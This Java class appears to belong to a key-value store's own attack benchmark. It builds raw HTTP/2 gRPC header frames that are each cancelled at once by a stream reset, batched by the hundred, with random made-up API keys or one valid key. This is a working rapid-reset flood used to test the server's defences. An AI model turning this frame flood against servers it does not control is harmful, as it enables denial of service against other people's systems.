package dev.kvstore.benchmark.attack;

import static java.nio.charset.StandardCharsets.US_ASCII;

import dev.kvstore.launcher.stack.ApiKey;
import java.io.ByteArrayOutputStream;
import java.nio.ByteBuffer;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Map.Entry;
import java.util.random.RandomGenerator;
import org.jspecify.annotations.Nullable;

/**
 * Calls with all headers of a client and made-up keys, or one good key, each reset at once. No header refers to another
 * one, so that the same bytes serve again, with other keys and numbers of streams. For one thread.
 */
final class ResetFrames implements FrameFlood.Frames {
    private static final int CALLS = 100;
    private static final int FIRST_RESET = 3;
    private static final byte[] CANCEL = {0, 0, 0, 8};

    /** The number of characters at the end of the key's text that are made up anew each time. */
    private static final int SECRET = 43;

    private static final byte[] DIGITS =
            "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_".getBytes(US_ASCII);

    /** Until a server has found that a key is good, and lets its connection do more. */
    private static final long ADMISSION_MILLIS = 100;

    private final @Nullable RandomGenerator random;
    private final byte[] bytes;
    private final int callBytes;
    private final int headersBytes;
    private int nextStream = 1;

    private ResetFrames(String path, String key, @Nullable RandomGenerator random) {
        this.random = random;
        byte[] headers = frame(RawConnection.HEADERS, RawConnection.END_HEADERS, block(path, key));
        byte[] reset = frame(RawConnection.RST_STREAM, 0, CANCEL);
        this.headersBytes = headers.length;
        this.callBytes = headers.length + reset.length;
        ByteBuffer all = ByteBuffer.allocate(CALLS * callBytes);
        for (int i = 0; i < CALLS; i++) {
            all.put(headers).put(reset);
        }
        this.bytes = all.array();
    }

    /**
     * Frames of a new connection, each call with another made-up key.
     *
     * @param path such as {@code /grpc.health.v1.Health/Check}
     */
    static ResetFrames withMadeUpKeys(String path, RandomGenerator random) {
        return new ResetFrames(path, ApiKey.generate(random).text(), random);
    }

    /**
     * Frames of a new connection, whose first call is not reset: the server takes the client for one that it knows.
     *
     * @param path such as {@code /grpc.health.v1.Health/Check}
     * @param key an API key that the server takes
     */
    static ResetFrames withKey(String path, String key) {
        return new ResetFrames(path, key, null);
    }

    private static byte[] frame(int type, int flags, byte[] payload) {
        return ByteBuffer.allocate(RawConnection.FRAME_BYTES + payload.length)
                .put((byte) 0)
                .putShort((short) payload.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(0)
                .put(payload)
                .array();
    }

    /** RFC 7541, section 6.2.2: without indexing, of new names; a length below 127 is one byte. The key is last. */
    private static byte[] block(String path, String key) {
        List<Entry<String, String>> headers = List.of(
                Map.entry(":method", "POST"),
                Map.entry(":scheme", "http"),
                Map.entry(":path", path),
                Map.entry(":authority", "kvstore"),
                Map.entry("content-type", "application/grpc"),
                Map.entry("te", "trailers"),
                Map.entry("user-agent", "grpc-java-netty/1.78.0"),
                Map.entry("grpc-accept-encoding", "gzip"),
                Map.entry("grpc-timeout", "5S"),
                Map.entry("authorization", "Bearer " + key));
        ByteArrayOutputStream block = new ByteArrayOutputStream();
        for (Entry<String, String> header : headers) {
            block.write(0);
            text(block, header.getKey());
            text(block, header.getValue());
        }
        return block.toByteArray();
    }

    private static void text(ByteArrayOutputStream block, String text) {
        byte[] ascii = text.getBytes(US_ASCII);
        block.write(ascii.length);
        block.writeBytes(ascii);
    }

    @Override
    public byte[] next() {
        if (random == null && nextStream == 1) {
            return firstCall();
        }
        if (random == null && nextStream == FIRST_RESET) {
            awaitAdmission();
        }
        ByteBuffer all = ByteBuffer.wrap(bytes);
        for (int at = 0; at < bytes.length; at += callBytes) {
            all.putInt(at + RawConnection.STREAM_AT, nextStream);
            all.putInt(at + headersBytes + RawConnection.STREAM_AT, nextStream);
            for (int i = at + headersBytes - SECRET; random != null && i < at + headersBytes; i++) {
                bytes[i] = DIGITS[random.nextInt(DIGITS.length)];
            }
            nextStream += 2;
        }
        return bytes;
    }

    private byte[] firstCall() {
        byte[] call = Arrays.copyOf(bytes, headersBytes);
        ByteBuffer.wrap(call).putInt(RawConnection.STREAM_AT, nextStream);
        nextStream = FIRST_RESET;
        return call;
    }

    private static void awaitAdmission() {
        try {
            Thread.sleep(ADMISSION_MILLIS);
        } catch (InterruptedException e) {
            Thread.currentThread().interrupt();
        }
    }

    @Override
    public int count() {
        return CALLS;
    }
}
